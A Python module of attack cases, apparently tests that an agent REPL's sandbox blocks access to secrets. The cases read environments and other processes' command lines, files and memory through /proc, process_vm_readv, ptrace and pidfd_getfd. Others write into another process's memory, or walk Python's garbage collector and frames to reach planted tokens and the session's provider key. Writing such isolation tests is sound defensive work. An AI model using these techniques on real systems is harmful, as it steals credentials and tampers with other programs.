"""Looking around: the environment, /proc, the memory of other processes, and what Python tells about its host."""
# ruff: noqa: SIM115, PTH, S, B010, B009

from .table import ADDRESS, LENGTH, SYS_PIDFD_GETFD, SYS_PIDFD_OPEN, TAG, VICTIM, VICTIM_FD, _c, attack


@attack("environment", "secret")
def reads_the_environment(self):
    """The variables of its own process."""
    import os

    return dict(os.environ)


@attack("environment", "secret")
def reads_the_first_environment(self):
    """What the process was started with, whatever was taken out since."""
    return open("/proc/self/environ").read()


@attack("environment", "secret")
def reads_the_environment_in_c(self):
    """The C library's list, which Python's copy does not change."""
    import ctypes

    words = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    found, number = [], 0
    while words[number]:
        found.append(words[number].decode())
        number += 1
    return found


@attack("environment", "secret")
def reads_the_environment_of_the_parent(self):
    """Of whoever started it, and of whoever started that."""
    import os
    import re

    found, pid = [], os.getpid()
    for _ in range(4):
        found.append(open(f"/proc/{pid}/environ").read())
        pid = int(re.search(r"PPid:\s*(\d+)", open(f"/proc/{pid}/status").read())[1])
        if pid <= 1:
            break
    return found


@attack("other processes in /proc", "secret")
def reads_the_environment_of_another(self):
    """The variables of a process that it did not start."""
    return open(f"/proc/{VICTIM}/environ").read()


@attack("other processes in /proc", "secret")
def reads_the_words_another_was_started_with(self):
    """Command lines, where people put passwords."""
    return open(f"/proc/{VICTIM}/cmdline").read()


@attack("other processes in /proc", "secret")
def opens_what_another_has_open(self):
    """The open files of another process."""
    return open(f"/proc/{VICTIM}/fd/{VICTIM_FD}").read()


@attack("other processes in /proc", "secret")
def lists_all_processes(self):
    """Every number in /proc, and what it says of itself."""
    import os

    found = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            found.append(open(f"/proc/{name}/cmdline").read())
        except OSError:
            continue
    return found


@attack("other processes in /proc", "secret")
def looks_through_a_thread(self):
    """A process's files under the name of one of its threads."""
    return open(f"/proc/{VICTIM}/task/{VICTIM}/environ").read()


@attack("other processes in /proc", "done")
def sees_where_another_keeps_things(self):
    """The memory map of another process."""
    return TAG if "stack" in open(f"/proc/{VICTIM}/maps").read() else ""


@attack("other processes in /proc", "done")
def sees_the_wires_of_the_machine(self):
    """Every connection of this machine."""
    return TAG if "rem_address" in open("/proc/net/tcp").read() else ""


@attack("memory of others", "secret")
def reads_memory_by_proc(self):
    """The memory of another process, as a file."""
    with open(f"/proc/{VICTIM}/mem", "rb", 0) as file:
        file.seek(ADDRESS)
        return file.read(LENGTH)


@attack("memory of others", "victim")
def writes_memory_by_proc(self):
    """The same file, to write."""
    with open(f"/proc/{VICTIM}/mem", "r+b", 0) as file:
        file.seek(ADDRESS)
        file.write(b"TAKEN")


@attack("memory of others", "secret")
def reads_memory_by_a_call(self):
    """process_vm_readv needs no file."""
    import ctypes
    import struct

    mine = ctypes.create_string_buffer(LENGTH)
    here, there = struct.pack("QQ", ctypes.addressof(mine), LENGTH), struct.pack("QQ", ADDRESS, LENGTH)
    _c("process_vm_readv", VICTIM, here, 1, there, 1, 0)
    return mine.raw


@attack("memory of others", "victim")
def writes_memory_by_a_call(self):
    """process_vm_writev."""
    import ctypes
    import struct

    mine = ctypes.create_string_buffer(b"TAKEN")
    here, there = struct.pack("QQ", ctypes.addressof(mine), 5), struct.pack("QQ", ADDRESS, 5)
    _c("process_vm_writev", VICTIM, here, 1, there, 1, 0)


@attack("memory of others", "secret")
def becomes_the_debugger_of_another(self):
    """ptrace: stop it, read a word at a time, let it go."""
    import ctypes
    import os

    _c("ptrace", 16, VICTIM, 0, 0)
    os.waitpid(VICTIM, 0x40000000)
    try:
        found = b""
        for at in range(0, LENGTH, 8):
            place = ctypes.create_string_buffer(8)
            _c("syscall", {"x86_64": 101}.get(os.uname().machine, 117), 1, VICTIM, ADDRESS + at, place)
            found += place.raw
        return found
    finally:
        _c("ptrace", 17, VICTIM, 0, 0)


@attack("memory of others", "secret")
def takes_a_descriptor_from_another(self):
    """pidfd_getfd: a copy of what another process has open."""
    import os

    other = _c("syscall", SYS_PIDFD_OPEN, VICTIM, 0)
    return os.pread(_c("syscall", SYS_PIDFD_GETFD, other, VICTIM_FD, 0), 999, 0)


@attack("memory of others", "secret")
def reads_what_it_was_forked_with(self):
    """All of its own memory: what the host had in it when the process was made."""
    import re

    found = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as held:
        for line in maps:
            start, end = (int(number, 16) for number in line.split()[0].split("-"))
            if " rw" in line and end - start < 1 << 26 and "[v" not in line:
                held.seek(start)
                try:
                    found += re.findall(rb"zq7sec" + rb"ret-[a-z]+-\w{32}", held.read(end - start))
                except OSError:
                    continue
    return sorted({each.decode() for each in found})


# ── what Python tells about its host ──


@attack("introspection", "secret")
def asks_the_collector(self):
    """Every object that the collector knows."""
    import gc

    return [each.token for each in gc.get_objects() if type(each).__name__ == "Vault"]


@attack("introspection", "secret")
def climbs_the_frames(self):
    """Whoever called it, and their variables."""
    import sys

    found, frame = [], sys._getframe()
    while frame:
        found += [value for name, value in frame.f_locals.items() if name == "host_secret"]
        frame = frame.f_back
    return found


@attack("introspection", "secret")
def climbs_down_from_object(self):
    """From the class of all classes to one that keeps its own objects."""
    classes = ().__class__.__base__.__subclasses__()
    return [each.all[0].token for each in classes if each.__name__ == "Vault"]


@attack("introspection", "secret")
def looks_into_main(self):
    """The module that was started."""
    import sys

    return [vars(value)["token"] for value in vars(sys.modules["__main__"]).values() if hasattr(value, "token")]


@attack("introspection", "secret")
def goes_by_the_capability(self):
    """What `self` can do is an object, and objects know others."""
    seen, found, asked = set(), [], [self, type(self), self.llm]
    while asked and len(seen) < 20000:
        each = asked.pop(0)
        if id(each) in seen:
            continue
        seen.add(id(each))
        if type(each) is str and each.startswith("zq7sec" + "ret"):
            found.append(each)
        if isinstance(each, dict):
            asked += [*each.values()]
        if isinstance(each, (list, tuple)):
            asked += each
        for name in ("__dict__", "__closure__", "__globals__", "__self__", "__func__", "cell_contents", "__mro__"):
            try:
                asked.append(getattr(each, name))
            except Exception:
                continue
        if hasattr(each, "__dict__"):
            asked += list(vars(each).values())
    return found


@attack("introspection", "secret")
def looks_at_other_threads(self):
    """The frames of all threads."""
    import sys

    found = []
    for frame in sys._current_frames().values():
        while frame:
            found += [str(value) for name, value in frame.f_locals.items() if "secret" in name]
            frame = frame.f_back
    return found


@attack("introspection", "secret")
def follows_its_own_traceback(self):
    """An error of its own leads to the frames above."""
    try:
        raise ValueError
    except ValueError as error:
        frame, found = error.__traceback__.tb_frame, []
        while frame.f_back:
            frame = frame.f_back
            found.append(frame.f_globals.get("HOST_SECRET"))
        return found


@attack("introspection", "secret")
def asks_who_refers_to_it(self):
    """From an object to what holds it, and on."""
    import gc

    found, layer, seen = [], [type(self)], set()
    for _ in range(8):
        layer = [r for each in layer for r in gc.get_referrers(each) if id(r) not in seen][:400]
        seen |= {id(each) for each in layer}
        for each in layer:
            if isinstance(each, dict):
                values = list(each.values())
                found += [value.token for value in values if type(value).__name__ == "Vault"]
    return [*found, *[each.token for each in gc.get_objects() if hasattr(type(each), "all") and hasattr(each, "token")]]


@attack("introspection", "secret")
def asks_the_session_itself(self):
    """The package that runs it, imported: its default session, its provider's key."""
    import agent_repl.session

    return [agent_repl.session.default_session().provider.key]


@attack("introspection", "files")
def writes_to_every_descriptor(self):
    """The same, to write."""
    import os

    for place in range(3, 100):
        try:
            os.set_blocking(place, False)
            os.write(place, b"taken\n")
        except OSError:
            continue
    return 1
